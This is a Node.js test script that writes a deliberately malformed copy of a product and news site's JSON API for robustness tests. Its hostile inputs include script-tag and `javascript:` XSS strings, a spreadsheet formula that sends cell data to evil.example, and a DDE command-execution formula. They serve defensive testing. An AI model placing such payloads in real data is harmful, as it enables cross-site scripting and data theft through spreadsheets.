// Writes a back end with the faults real back ends have, one in every file
// of docs/api.md, from the embedded data set (a smaller copy, so the
// prerender of it stays quick): HTML in the site's name, a `null` visitor
// count, an article whose date is out of range, a catalogue with malformed
// items (stars missing, "5", 4.5 or 7, unknown commune and group slugs, a
// duplicate id, a 5,000-character name, emoji, right-to-left and zalgo
// text, a `javascript:` image, an expiry date that is no date), a product
// listed without its detail file, a news page `total_pages` promises and
// the back end lacks, and sale points with bad records.
//
// The test command prerenders a site from it (scripts/test.sh) and the
// `messy` project opens every page (messy.spec.mjs): no page may crash,
// and every prerendered page must be adopted as it is.
//
//   node tests/e2e/messy-api.mjs --from public/api --out target/messy-api
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';

const argv = process.argv.slice(2);
const arg = (name) => argv[argv.indexOf(`--${name}`) + 1];
const from = arg('from');
const out = arg('out');
const here = dirname(fileURLToPath(import.meta.url));
if (!from || !out || out.includes('public/')) {
  console.error('usage: node tests/e2e/messy-api.mjs --from public/api --out target/messy-api (not under public/)');
  process.exit(2);
}
const read = (path) => JSON.parse(readFileSync(join(from, path), 'utf8'));
const write = (path, value) => {
  mkdirSync(dirname(join(out, path)), { recursive: true });
  writeFileSync(join(out, path), typeof value === 'string' ? value : JSON.stringify(value, null, 1));
};
rmSync(out, { recursive: true, force: true });
mkdirSync(out, { recursive: true });
cpSync(join(from, 'images'), join(out, 'images'), { recursive: true });

// site.json: markup in the name, links that are not links, no contact.
const site = read('site.json');
write('site.json', {
  ...site,
  name: `${site.name} <b>OCOP</b> <script>alert(1)</script> & "ngoặc"`,
  tagline: null,
  links: [...site.links.slice(0, 3), { title: 'Xấu', url: 'javascript:alert(1)', logo: null }, { url: 'https://thieu-ten.example' }, null],
  contact: null,
});

// stats.json: a count that is null.
write('stats.json', { online: null, total_visits: 3219712 });

// The news: two pages of eight, though three are promised (page 3 is
// missing), one article dated out of range, one list item without a title.
const KEEP = 8;
const page1 = read('news/page-1.json');
const page2 = read('news/page-2.json');
const first = page1.items.slice(0, KEEP);
const second = page2.items.slice(0, KEEP);
const badDate = '2024-13-45T99:99:99+07:00';
first[2] = { ...first[2], published_at: badDate, views: -5 };
const articles = [...first, ...second];
write('news/page-1.json', { page: 1, total_pages: 3, total_items: 24, items: [...first, { slug: 'khong-ten', published_at: first[0].published_at }] });
write('news/page-2.json', { page: 2, total_pages: 3, total_items: 24, items: second });
const index = read('news/index.json');
write('news/index.json', {
  ...index,
  items: articles.map((a) => ({ slug: a.slug, title: a.title, published_at: a.published_at, category: a.category?.slug ?? null, tags: a.tags })),
});
for (const a of articles) {
  const article = read(`articles/${a.slug}.json`);
  const known = new Set(articles.map((x) => x.slug));
  write(`articles/${a.slug}.json`, {
    ...article,
    published_at: a.published_at,
    views: a.views,
    updated_at: a.published_at === badDate ? 'hôm qua' : article.updated_at,
    related: (article.related ?? []).filter((r) => known.has(r.slug)),
  });
}

// products.json: twelve real products, then the hostile ones.
const catalog = read('products.json');
const real = catalog.items.slice(0, 12);
const [a, b] = real;
const base = (id, extra) => ({ ...a, id, name: `Sản phẩm ${id}`, image: a.image, ...extra });
const hostile = [
  base('thieu-sao', { stars: undefined }),
  base('sao-chu', { stars: '5', name: 'Sao viết bằng chữ' }),
  base('sao-le', { stars: 4.5 }),
  base('bay-sao', { stars: 7 }),
  base('xa-la', { commune: 'xa-khong-co', group: 'nhom-la', name: 'Xã và nhóm lạ' }),
  { ...b, name: 'Trùng mã sản phẩm' },
  base('ten-rat-dai', { name: `Tên rất dài ${'Gốm sứ Bát Tràng '.repeat(300)}`.slice(0, 5000) }),
  base('emoji', { name: '🍯 Mật ong hoa nhãn 🐝🌸 — mật ong sạch 🍯🍯🍯' }),
  base('rtl', { name: 'عسل النحل الطبيعي من هانوي Mật ong' }),
  base('zalgo', { name: 'M̷̡̛͎a̸̛͎̕t̴̢͝ ̶̨̛o̵̡͝n̷̢̛g̸̨̛ z̵̢̛a̴̡͝l̶̢̕g̵̡͝o̸̢͝' }),
  base('anh-xau', { image: { src: 'javascript:alert(1)', alt: 'x' }, name: 'Ảnh là mã độc' }),
  base('han-sai', { expires_on: '2024-02-30', name: 'Hạn không phải ngày' }),
  base('khong-co-chi-tiet', { name: 'Không có trang chi tiết' }),
  // Names a spreadsheet would run as formulas (the open-data CSV).
  base('cong-thuc', { name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")' }),
  base('cong-thuc-2', { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', producer: { name: '+84 HTX "Mật, ong"', kind: 'htx' } }),
];
write('products.json', { ...catalog, items: [...real, ...hostile] });
for (const p of real) write(`products/${p.id}.json`, read(`products/${p.id}.json`));
const detailOf = read(`products/${a.id}.json`);
for (const p of hostile) {
  if (p.id === 'khong-co-chi-tiet' || p.id === b.id) continue;
  write(`products/${p.id}.json`, { ...detailOf, ...p, images: p.image ? [p.image] : [] });
}

// points.json: the hostile points fixture (missing fields, unknown kinds,
// communes and products, script URLs, markup).
write('points.json', readFileSync(join(here, 'fixtures/hostile-points.json'), 'utf8'));
if (!existsSync(join(out, 'site.json'))) process.exit(1);
console.log(`messy API written to ${out}`);
